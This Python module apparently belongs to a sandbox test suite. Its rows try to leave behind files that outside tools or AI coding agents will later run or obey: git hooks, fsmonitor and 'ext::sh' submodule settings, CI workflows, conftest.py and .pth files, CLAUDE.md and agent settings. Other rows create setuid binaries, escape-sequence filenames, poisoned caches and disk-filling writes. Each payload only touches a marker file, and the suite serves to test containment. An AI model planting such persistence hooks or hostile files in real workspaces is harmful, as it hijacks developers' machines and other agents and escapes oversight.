"""Rows on the workspace: what something outside will later execute or obey, and objects a commit must not bring in.

Writing succeeds here, on a layer that is thrown away: whether a row holds is seen outside, in the project itself and in
the review of the run.
"""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

from attempt import OWN_HOME, WORKSPACE, WORLD, every, row

DEEP = "a/b/c/d/e/f"
WRITES = {
    17: (".git/hooks/pre-commit",),
    18: (".git/config",),
    19: (".vscode/tasks.json",),
    20: (".claude/settings.json", ".claude/settings.local.json"),
    21: (".claude/commands/x.md",),
    22: (".cursor/mcp.json",),
    23: (".codex/config.toml",),
    24: ("CLAUDE.md", "AGENTS.md", "docs/claude.md"),
    25: (".github/workflows/x.yml",),
    26: (".envrc",),
    27: (".mcp.json",),
    28: ("package.json", "Makefile"),
    29: (f"{DEEP}/.git/hooks/pre-commit",),
    121: ("conftest.py", "sitecustomize.py", "evil.pth", "sub/package.json", "sub/Makefile", "setup.py"),
}


def plant(*names: str) -> str:
    """Write a program under each name."""
    for name in names:
        path = WORKSPACE / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(f"#!/bin/sh\ntouch {WORLD['folder']}/ran\n")
        path.chmod(0o755)
    return "wrote"


for _number, _names in WRITES.items():
    row(_number)(lambda names=_names: plant(*names))


@row(30)
def other_repository() -> str:
    """Put another repository in the place of the project's."""
    shutil.move(WORKSPACE / ".git", WORKSPACE / "moved-git")
    return plant(".git/hooks/post-checkout")


@row(116)
def rename_root() -> str:
    """Rename the workspace itself, and put something else in its place."""
    away = WORKSPACE.with_name("away")
    WORKSPACE.rename(away)
    away.rename(WORKSPACE)
    return "done"


@row(117)
def special_files() -> str:
    """Leave a pipe, a socket and device nodes to be committed."""
    folder = WORKSPACE / "special"
    folder.mkdir()
    os.mkfifo(folder / "pipe")
    return "made " + every(lambda: node(folder / "null", 0o020666), lambda: node(folder / "socket", 0o140666))


def node(path: Path, mode: int) -> str:
    """Make a node that is no file."""
    os.mknod(path, mode, os.makedev(1, 3))
    return f"made {path.name}"


@row(118)
def privileges() -> str:
    """Leave a program with privileges to be committed."""
    program = WORKSPACE / "privileged"
    program.write_text("#!/bin/sh\n")
    program.chmod(0o6755)
    return every(
        lambda: str(os.setxattr(program, "user.attack", b"x")),
        lambda: str(os.setxattr(program, "security.capability", bytes(20))),
    )


@row(119)
def hostile_names() -> str:
    """Leave names that a terminal, a script or another disk would take for something else."""
    folder = os.fsencode(WORKSPACE / "names")
    os.mkdir(folder)
    for name in (
        b"new\nline",
        b"\xff\xfe",
        b"esc\x1b[2J",
        b"right\xe2\x80\xaeleft",
        b"twin",
        b"TWIN",
        b"dot.",
    ):
        with open(folder + b"/" + name, "wb") as file:
            file.write(b"x")
    return "wrote"


@row(120)
def git_settings() -> str:
    """Make git of the person outside start a program: by a repository of our own, a pointer to one, a submodule."""
    program = f"touch {WORLD['folder']}/ran-120"
    for name, text in {
        "trap/HEAD": "ref: refs/heads/main\n",
        "trap/config": f"[core]\n\tbare = false\n\tworktree = ..\n\tfsmonitor = {program}\n\thooksPath = ../hooks\n",
        "pointer/.git": "gitdir: ../trap\n",
        ".gitmodules": '[submodule "x"]\n\tpath = x\n\turl = ext::sh -c x\n',
        ".gitattributes": "* filter=evil\n",
    }.items():
        path = WORKSPACE / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    for index in (WORKSPACE / "moved-git/index", WORKSPACE / ".git/index"):
        if index.exists():
            shutil.copy(index, WORKSPACE / "trap/index")
    for folder in ("objects", "refs/heads"):
        (WORKSPACE / "trap" / folder).mkdir(parents=True, exist_ok=True)
    with open(WORKSPACE / ".git/config", "a") as file:
        file.write(f"[core]\n\tfsmonitor = {program}\n")
    return "wrote"


@row(122)
def poisoned_caches() -> str:
    """Leave something in the caches the next run would use, or find what the last one left."""
    return left(*(OWN_HOME / name for name in (".cache/pip/x", ".npm/_cacache/x", ".cache/ccache/x", ".cargo/x")))


@row(123)
def left_locks() -> str:
    """Leave lock files for the next run, or find those of the last one."""
    name = f"{WORLD['name']}.lock"
    return left(Path("/tmp", name), Path("/dev/shm", name), WORKSPACE / "drafts/attack.lock")


def left(*paths: Path) -> str:
    """Return `done` if an earlier run left one of the paths, and leave all."""
    found = [str(path) for path in paths if path.exists()]
    for path in paths:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("left")
    return f"done {found}" if found else "nothing left"


@row(113)
def quotas() -> str:
    """Make a file larger than the run may, and more files than it may."""

    def sparse() -> str:
        with open(WORKSPACE / "drafts/sparse", "wb") as file:
            file.truncate(1 << 34)
            file.truncate(0)  # whoever reads it later is not to suffer
        return "done"

    def many() -> str:
        folder = Path("/tmp", f"{WORLD['name']}-many")
        folder.mkdir()
        try:
            for number in range(6000):
                (folder / str(number)).touch()
        finally:
            shutil.rmtree(folder)
        return "done"

    return every(sparse, many)


@row(74)
def large_file() -> str:
    """Fill the disk by one file."""
    path = Path("/tmp", f"{WORLD['name']}-074")
    # A shell of its own: the limit's signal would end it.
    script = f"head -c 48m /dev/zero > {path}; stat -c %s {path}; rm -f {path}"
    size = int(subprocess.run(["sh", "-c", script], capture_output=True, text=True).stdout or 0)
    return "done" if size >= 48 << 20 else f"cut at {size} bytes"
